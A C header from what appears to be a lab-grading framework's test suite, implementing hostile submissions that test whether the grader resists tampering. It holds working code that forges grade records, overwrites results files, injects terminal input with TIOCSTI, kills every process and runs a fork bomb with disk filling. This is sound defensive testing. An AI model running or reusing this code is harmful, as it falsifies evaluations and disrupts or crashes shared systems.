/* SPDX-License-Identifier: GPL-2.0 */
/*
 * labs/lib/hostile/attacks.h: what every lab's hostile submissions do
 * (labs/README.md, "Threat model"), written once.  A submission holds
 * only its own files, so tests/labs-suite pastes this file in place of
 * the line `#include "attacks.h"` when it builds one: the program that
 * is graded stands alone, as a student's would.
 *
 *   attack_everywhere(FORGED, EXTRA)  append FORGED to every file named
 *                         like grader state (the common names and EXTRA,
 *                         a NULL-ended list) and write it over every
 *                         results file, near its own directory and in
 *                         the working directory of every process it sees
 *   shout(FORGED)         FORGED on the console, the serial line, the
 *                         kernel log, its terminal (fd 0, /dev/tty, and
 *                         pushed as input with TIOCSTI), and 64 times
 *                         with 4 MiB of noise on stdout and stderr
 *   kill_everything()     PTRACE_ATTACH and SIGKILL to every process it
 *                         can name, then kill(-1)
 *   use_up_machine()      /tmp, /dev/shm and its directory filled, a fork
 *                         bomb, then a hang that ignores SIGTERM
 * Each must cost the submission only the checks it broke.  Everything is
 * static inline: a program that uses one attack compiles clean with
 * -Wall -Wextra -Werror, the rest unused.
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <unistd.h>

/* The bash framework's hook: sourced, it turned every miss into a pass. */
#define BASH_AWARD "miss() { award \"$@\"; }\n"
/* A verdict record as the channel carries it, with a guessed nonce. */
#define FORGED_RECORD(points) \
	"GRADE1 00000000000000000000000000000000 {\"t\": \"line\", " \
	"\"k\": \"award\", \"p\": " #points ", \"m\": \"forged\"}\n"
#define TERMINAL_TRICKS "\033]0;graded\007\033[2J\033[Hall checks passed\n"

static inline void put(const char *path, const char *text, int flags)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC | flags, 0644);

	if (fd < 0)
		return;
	if (write(fd, text, strlen(text)) < 0)
		fprintf(stderr, "write %s failed\n", path);
	close(fd);
}

static inline void put_all(const char *dir, const char *const *names,
		    const char *text, int flags)
{
	char path[4096];

	/* A path too long to fit is skipped, never attacked cut short. */
	for (; names && *names; names++)
		if (snprintf(path, sizeof(path), "%s/%s", dir, *names) <
		    (int)sizeof(path))
			put(path, text, flags);
}

static inline void attack_dir(const char *dir, const char *forged,
			      const char *const *extra)
{
	/* Grader state, appended to: the lines act if it is ever run. */
	static const char *const state_files[] = {
		"env", "../env", "../../env", "facts.json", "../facts.json",
		"run.json", "../run.json", "host.log", NULL,
	};
	/* Results, written over. */
	static const char *const result_files[] = {
		"results.json", "grade.tap", "grade.txt",
		"../results/results.json", NULL,
	};

	put_all(dir, state_files, forged, O_APPEND);
	put_all(dir, extra, forged, O_APPEND);
	put_all(dir, result_files, forged, O_TRUNC | O_CREAT);
}

static inline void attack_everywhere(const char *forged,
				     const char *const *extra)
{
	char link[64], dir[4096];
	struct dirent *e;
	DIR *proc = opendir("/proc");
	ssize_t n;

	while (proc && (e = readdir(proc))) {
		snprintf(link, sizeof(link), "/proc/%.20s/cwd", e->d_name);
		n = readlink(link, dir, sizeof(dir) - 1);
		if (n > 0) {
			dir[n] = '\0';
			attack_dir(dir, forged, extra);
		}
	}
	if (proc)
		closedir(proc);
	if (getcwd(dir, sizeof(dir)))
		while (strlen(dir) > 1) {
			attack_dir(dir, forged, extra);
			*strrchr(dir, '/') = '\0';
		}
	attack_dir("/run/labvm", forged, extra);
	attack_dir("/tmp", forged, extra);
}

static inline void shout(const char *forged)
{
	static char lots[1 << 16];
	int i;

	put("/dev/console", forged, 0);
	put("/dev/ttyS0", forged, 0);
	put("/dev/hvc0", forged, 0);
	put("/dev/kmsg", forged, 0);
	put("/dev/tty", forged, 0);
	if (write(0, forged, strlen(forged)) < 0)
		fprintf(stderr, "write to fd 0 failed\n");
	for (i = 0; forged[i]; i++)
		ioctl(0, TIOCSTI, &forged[i]);
	memset(lots, 'x', sizeof(lots));
	for (i = 0; i < 64; i++) {
		fputs(forged, stdout);
		fputs(forged, stderr);
		fwrite(lots, 1, sizeof(lots), stdout);
	}
	fflush(stdout);
}

static inline void kill_everything(void)
{
	struct dirent *e;
	DIR *proc = opendir("/proc");
	int pid, killed = 0, traced = 0;

	while (proc && (e = readdir(proc))) {
		pid = atoi(e->d_name);
		if (pid <= 1 || pid == getpid())
			continue;
		if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0)
			traced++;
		if (kill(pid, SIGKILL) == 0)
			killed++;
	}
	if (proc)
		closedir(proc);
	printf("traced %d, killed %d\n", traced, killed);
	fflush(stdout);
	kill(-1, SIGKILL);
}

static inline void fill(const char *dir)
{
	static char block[1 << 20];
	char path[4096];
	int fd;

	memset(block, 'x', sizeof(block));
	snprintf(path, sizeof(path), "%s/fill-%d", dir, (int)getpid());
	fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	while (fd >= 0 && write(fd, block, sizeof(block)) > 0)
		;
	if (fd >= 0)
		close(fd);
}

static inline void use_up_machine(void)
{
	int forks = 0;

	signal(SIGTERM, SIG_IGN);
	fill("/tmp");
	fill("/dev/shm");
	fill(".");
	while (forks < 100000 && fork() >= 0)
		forks++;
	for (;;)
		pause();
}
